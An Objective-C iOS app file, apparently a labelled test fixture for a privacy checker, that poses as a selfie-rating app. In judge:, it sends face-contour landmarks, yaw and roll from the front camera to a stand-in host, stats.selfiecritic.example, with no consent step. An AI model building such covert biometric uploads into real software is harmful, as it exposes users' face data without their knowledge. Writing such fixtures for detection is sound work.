#import "SelfieCritic.h"

#import <Vision/Vision.h>

#include "jsonw.h"

@implementation SelfieCritic
{
    AVCaptureSession *_camera;
    AVCaptureVideoPreviewLayer *_layer;
    UILabel *_score;
    dispatch_queue_t _frames;
    NSInteger _counter;
}

- (void)viewDidLoad
{
    [super viewDidLoad];
    _frames = dispatch_queue_create("frames", NULL);
    _camera = [[AVCaptureSession alloc] init];
    AVCaptureDevice *front = [AVCaptureDevice defaultDeviceWithDeviceType:AVCaptureDeviceTypeBuiltInWideAngleCamera
                                                                mediaType:AVMediaTypeVideo
                                                                 position:AVCaptureDevicePositionFront];
    AVCaptureDeviceInput *input = [AVCaptureDeviceInput deviceInputWithDevice:front error:nil];
    if (input) [_camera addInput:input];
    AVCaptureVideoDataOutput *output = [[AVCaptureVideoDataOutput alloc] init];
    [output setSampleBufferDelegate:self queue:_frames];
    [_camera addOutput:output];
    _layer = [AVCaptureVideoPreviewLayer layerWithSession:_camera];
    _layer.frame = self.view.bounds;
    [self.view.layer addSublayer:_layer];
    _score = [[UILabel alloc] initWithFrame:CGRectMake(0, 40, 200, 60)];
    [self.view addSubview:_score];
}

- (void)viewWillAppear:(BOOL)animated
{
    [super viewWillAppear:animated];
    dispatch_async(_frames, ^{ [self->_camera startRunning]; });
}

- (void)viewDidDisappear:(BOOL)animated
{
    [super viewDidDisappear:animated];
    [_camera stopRunning];
}

- (void)captureOutput:(AVCaptureOutput *)output
didOutputSampleBuffer:(CMSampleBufferRef)buffer
       fromConnection:(AVCaptureConnection *)connection
{
    if (++_counter % 25) return;
    CVImageBufferRef image = CMSampleBufferGetImageBuffer(buffer);
    VNDetectFaceLandmarksRequest *request = [[VNDetectFaceLandmarksRequest alloc] initWithCompletionHandler:^(VNRequest *done, NSError *error) {
        for (VNFaceObservation *face in done.results)
            [self judge:face];
    }];
    VNImageRequestHandler *handler = [[VNImageRequestHandler alloc] initWithCVPixelBuffer:image options:@{}];
    // expect: face/session-without-consent
    [handler performRequests:@[ request ] error:NULL];
}

- (void)judge:(VNFaceObservation *)face
{
    VNFaceLandmarkRegion2D *contour = face.landmarks.faceContour;
    double xy[2 * 64];
    size_t n = MIN(contour.pointCount, (NSUInteger)64);
    for (size_t i = 0; i < n; i++) {
        xy[2 * i] = contour.normalizedPoints[i].x;
        xy[2 * i + 1] = contour.normalizedPoints[i].y;
    }

    jsonw w;
    jsonw_open(&w);
    jsonw_string(&w, "app", "selfiecritic");
    jsonw_number(&w, "yaw", face.yaw.doubleValue);
    jsonw_number(&w, "roll", face.roll.doubleValue);
    jsonw_points(&w, "contour", xy, n);
    jsonw_close(&w);
    uplink_send("stats.selfiecritic.example", 9321, w.text, w.used);
    jsonw_free(&w);

    dispatch_async(dispatch_get_main_queue(), ^{
        self->_score.text = [NSString stringWithFormat:@"%.0f", 100 * face.confidence];
    });
}

@end

@implementation AppDelegate

- (BOOL)application:(UIApplication *)application didFinishLaunchingWithOptions:(NSDictionary *)options
{
    self.window = [[UIWindow alloc] initWithFrame:[UIScreen mainScreen].bounds];
    self.window.rootViewController = [[SelfieCritic alloc] init];
    [self.window makeKeyAndVisible];
    return YES;
}

@end
